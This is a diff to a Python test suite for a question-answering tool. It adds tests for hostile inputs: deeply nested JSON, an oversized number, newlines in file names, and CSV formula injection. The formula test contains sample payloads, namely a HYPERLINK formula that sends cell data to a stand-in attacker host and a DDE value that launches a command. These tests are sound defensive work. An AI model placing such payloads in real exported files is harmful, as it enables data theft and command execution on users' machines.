@@ -351,6 +351,10 @@ QA_SET_FILES = [
     pytest.param("second-line.jsonl", '{"question": "ok", "answers": ["1"]}\n{"question": ', "line 2",
                  id="truncated-second-line"),
     pytest.param("no-question.jsonl", '{"answers": ["1"]}\n', "line 1: 'question'", id="object-without-question"),
+    pytest.param("deep.jsonl", '{"question": "q", "answers": ["1"]}\n{"question": "q2", "x": ' + "[" * 100_000
+                 + "]" * 100_000 + "}\n", "line 2: not valid JSON (nested too deeply)", id="deeply-nested-line"),
+    pytest.param("digits.jsonl", '{"question": "q", "answers": ["1"], "n": ' + "9" * 5000 + "}\n",
+                 "line 1: not valid JSON", id="5000-digit-number"),
 ]
 
 
@@ -608,3 +612,40 @@ def test_app_start_without_index_or_corpus_is_one_clear_line(tmp_path):
     _no_traceback(out)
     lines = [line for line in out.splitlines() if line.strip()]
     assert len(lines) == 1 and "索引不可用" in lines[0] and "no-corpus does not exist" in lines[0], out
+
+
+# ================================================================ smaller hostile inputs (issue 14, item 12)
+
+def test_evaluation_csv_escapes_formulas(tmp_path, monkeypatch):
+    import csv
+
+    from qa import evaluation
+    from qa.evaluation import EvalReport, write_report
+
+    monkeypatch.setattr(evaluation, "format_summary", lambda summary: "")  # only the CSV matters here
+
+    rows = [{"id": "q1", "question": '=HYPERLINK("http://evil.example/?"&A1,"点击")', "answer": "+1 cmd|' /C calc'!A0",
+             "kind": "-2+3", "period": "@SUM(A1)", "hit_rank": 1, "f1": -0.5},
+            {"id": "q2", "question": "2022年地区生产总值增长目标是多少？", "answer": "8%"}]
+    csv_path = write_report(EvalReport(summary={}, questions=rows), tmp_path / "report")[1]
+    with open(csv_path, encoding="utf-8-sig", newline="") as fh:
+        got = list(csv.DictReader(fh))
+    cells = [v for row in got for v in row.values() if v]
+    assert not [v for v in cells if v[0] in "=+@" or (v[0] == "-" and v != "-0.5")], cells
+    assert got[0]["question"] == "'" + rows[0]["question"] and got[1]["question"] == rows[1]["question"]
+
+
+def test_newline_in_a_file_name_keeps_docs_and_errors_on_one_line(tmp_path, small_document, fake_embedder):
+    from qa.corpus import parse_document
+    from qa.index import save_index
+
+    evil = parse_document(SMALL_REPORT, "evil\nname.txt")
+    index = build_index([small_document, evil], Settings(embedder=fake_embedder.name), fake_embedder)
+    folder = save_index(index, tmp_path / "idx")
+    proc = run_cli("docs", "--index", str(folder))
+    assert proc.returncode == 0, proc.stderr
+    lines = proc.stdout.decode("utf-8").splitlines()
+    assert len(lines) == 2 and any(line.startswith("evil\\nname.txt\t") for line in lines), lines
+    missing = tmp_path / "draft\nfile.txt"
+    line = assert_clean_failure(run_cli("check", "--file", str(missing), "--index", str(folder)), r"does not exist")
+    assert "draft\\nfile.txt" in line
